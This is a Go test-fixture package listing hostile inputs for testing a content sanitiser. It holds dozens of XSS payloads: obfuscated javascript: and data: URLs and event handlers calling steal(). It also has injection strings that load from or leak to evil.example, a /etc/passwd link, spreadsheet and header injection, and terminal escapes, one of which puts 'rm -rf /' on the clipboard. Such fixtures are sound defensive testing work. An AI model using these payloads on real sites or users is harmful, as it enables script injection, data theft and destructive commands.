// Package hostile is for tests that hold what is made against what somebody
// might write to make it run: in a browser, in a feed reader, in a mail.
//
// Each text calls steal(), leads to evil.example or would carry off [Secret].
// Pictures that an author may name lie at picture.example.
package hostile

import (
	"encoding/base64"
	"slices"
	"strings"
)

// Secret is what no address that is asked for may hold: it stands behind each
// of the texts.
const Secret = "s3cr3t"

// Bodies returns texts in Markdown, raw HTML above all: one trick in each, or
// many of those that cannot swallow what follows.
func Bodies() []string {
	var all []string
	for _, address := range Addresses() {
		quoted := strings.NewReplacer("&", "&amp;", `"`, "&quot;").Replace(address)
		all = append(all,
			`<a href="`+address+`">x</a>`,
			"[x](<"+strings.NewReplacer("\n", "&NewLine;", "<", "&lt;", ">", "&gt;").Replace(address)+">)",
			`<img src="`+quoted+`">`,
		)
	}
	for _, event := range events() {
		all = append(all,
			`<b `+event+`="steal()">x</b>`,
			`<img src="x"/`+event+`=steal()>`,
			"<video\f"+event+"\n=\n'steal()' src=x></video>",
		)
	}
	const most = 24
	bodies := tricks()
	for some := range slices.Chunk(all, most) {
		bodies = append(bodies, strings.Join(some, "\n\n"))
	}
	return bodies
}

// Addresses returns addresses that run, or pass for others that do not.
func Addresses() []string {
	script := base64.StdEncoding.EncodeToString([]byte("<script>steal()</script>"))
	return []string{
		"javascript:steal()", "JaVaScRiPt:steal()", " javascript:steal()", "\tjavascript:steal()", "java\tscript:steal()", "java\nscript:steal()",
		"java\rscript:steal()", "\x01javascript:steal()", "\x1fjavascript:steal()", "javascript\t:steal()", "javascript&colon;steal()", "&#106;avascript:steal()",
		"&#x6A;avascript:steal()", "&#x6A&#x61;vascript:steal()", "&#0000106avascript:steal()", "java&Tab;script:steal()", "java&NewLine;script&colon;steal&lpar;&rpar;",
		"&#1;javascript:steal()", "&#xfeff;javascript:steal()", "java&#xAD;script:steal()", "java&#x200B;script:steal()", "javascript://%0asteal()",
		"javascript://picture.example/%0a%0dsteal()", "javascript:%73teal()", "javascript:/*-->*/steal()", "feed:javascript:steal()", "view-source:javascript:steal()",
		"jar:javascript:steal()", "vbscript:steal()", "VBScript:MsgBox(1)", "livescript:steal()", "mocha:steal()", "data:text/html,<script>steal()</script>",
		"data:text/html;base64," + script, "data:text/html;charset=utf-7,+ADw-script+AD4-steal()", "data:image/svg+xml,<svg onload=steal()>",
		"data:image/svg+xml;base64," + script, "data:application/xhtml+xml;base64," + script, "data:,steal()", "DATA:text/html;base64," + script,
		"blob:https://evil.example/1", "filesystem:https://evil.example/1", "about:blank", "file:///etc/passwd", "intent://evil.example#Intent;end",
		"ms-msdt:/id", "search-ms:query=x", "\\\\evil.example\\share", "chrome://settings", "x-javascript:steal()", "wyciwyg://x", "resource://x",
		"javascript\u003asteal()", "ｊavascript:steal()", "jаvascript:steal()", "java\x00script:steal()", "%6aavascript:steal()", "javascript%3asteal()",
	}
}

// events are attributes that run.
func events() []string {
	return strings.Fields(`onload onerror onclick onmouseover onfocus onbegin ontoggle onpointerrawupdate onanimationstart
		ontransitionend onwheel oncopy onbeforetoggle onscrollend oncontentvisibilityautostatechange ONERROR onFocus formaction`)
}

// Texts returns what a title, a name or a word of front matter might be.
func Texts() []string {
	return []string{
		`<script>steal()</script>`, `</title><script>steal()</script>`, `</script><script>steal()</script>`, `"><img src=x onerror=steal()>`,
		`'><svg onload=steal()>`, `" onmouseover="steal()`, `' autofocus onfocus='steal()`, "` onerror=`steal()", `javascript:steal()`,
		`</textarea></style></noscript></template></iframe><img src=x onerror=steal()>`, `--><img src=x onerror=steal()>`, `--!><img src=x onerror=steal()>`,
		`]]><img src=x onerror=steal()>`, `]]></title></item></channel></rss><script xmlns="http://www.w3.org/1999/xhtml">steal()</script>`,
		`<x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>`, `&lt;script&gt;steal()&lt;/script&gt;`, `&amp;lt;img src=x onerror=steal()&amp;gt;`,
		`&#60;script&#62;steal()&#60;/script&#62;`, `{{constructor.constructor('steal()')()}}`, `${steal()}`, `<%= steal() %>`, `<?xml-stylesheet href="//evil.example/x.xsl"?>`,
		`<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/">]>&y;`, "\u2028steal()//\u2029", "\\u003cscript>steal()", `<!--<script>`, `<style>@import "https://evil.example/x.css";`,
		`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
		`<img src='https://evil.example/?`, `<iframe src=https://evil.example/>`, `=cmd|'/c calc'!A1`, "a\r\nSet-Cookie: x=1", `<![endif]--><script>steal()</script>`,
		`<!--[if mso]><script>steal()</script><![endif]-->`, `+ADw-script+AD4-steal()+ADw-/script+AD4-`, `<math><mi xlink:href="javascript:steal()">x`,
		"<scr\u0000ipt>steal()</scr\u0000ipt>", "＜script＞steal()＜/script＞", `"};steal();//`, `");steal();//`, `*/steal()/*`, `expression(steal())`, `url(javascript:steal())`,
	}
}

// Terminal returns texts that a terminal would obey, or that turn or hide what
// stands around them.
func Terminal() []string {
	return []string{
		"\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\a", "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJmIC8=\a", "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1bc",
		"\u009b31mred", "\u009d0;title\u009c", "\u0090x\u009c", "\x9b31m", "\b\b\bover", "\rover", "\x7f\x7f", "bell\a", "\x0e\x0f", "\v\f", "\x00nul", "\u0085next", "line\u2028two\u2029three",
		"\u202egnp.exe", "\u202a\u202b\u202d", "\u2066\u2067\u2068", "\u200e\u200f\u061c", "\ufeffmark", "bad \xff\xfe\xc0\x80", "\xed\xa0\x80", "Z\u0351\u0352\u0353\u0354algo", "\u200bzero\u200dwidth",
		"\U000e0041\U000e0042tags", "💣👨\u200d👩\u200d👧", "日本語", "\u115f\u3164filler", "\ufff9anno\ufffatation\ufffb", strings.Repeat("long ", 2000), strings.Repeat("é", 9000),
	}
}
